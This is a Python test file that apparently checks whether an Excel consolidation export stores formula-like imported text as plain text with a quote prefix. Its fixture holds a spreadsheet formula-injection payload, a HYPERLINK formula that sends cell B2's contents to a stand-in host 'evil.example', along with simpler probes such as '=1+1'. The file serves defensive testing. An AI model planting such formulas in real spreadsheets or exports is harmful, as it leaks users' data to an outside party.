"""Nothing imported becomes a formula in the consolidation workbook: a reason typed as
`=HYPERLINK(...)` was written as a live formula (and `=1+1` too)."""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl

from inspector.domain.consolidation import UnitRecord, consolidate
from inspector.exchange.excel import SHEET_REASONS, write_consolidation
from tests.exchange.test_excel import hearing

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"詳細")'


def test_formula_like_text_is_written_as_text(tmp_path: Path) -> None:
    checklist = hearing()
    units = [
        UnitRecord("a", {"q2": "yes", "q4": "yes"}, {"q2": (EVIL, "=1+1")}, group="regular"),
        UnitRecord("b", {"q2": "yes", "q4": "yes"}, {"q4": ("@SUM(A1)", "-x")}, group="regular"),
    ]
    path = write_consolidation(tmp_path / "out.xlsx", checklist, consolidate(checklist, units))
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    wb = openpyxl.load_workbook(path)
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert EVIL in values and "=1+1" in values and "@SUM(A1)" in values
    reasons = wb[SHEET_REASONS]
    evil = next(c for row in reasons.iter_rows() for c in row if c.value == EVIL)
    assert evil.quotePrefix
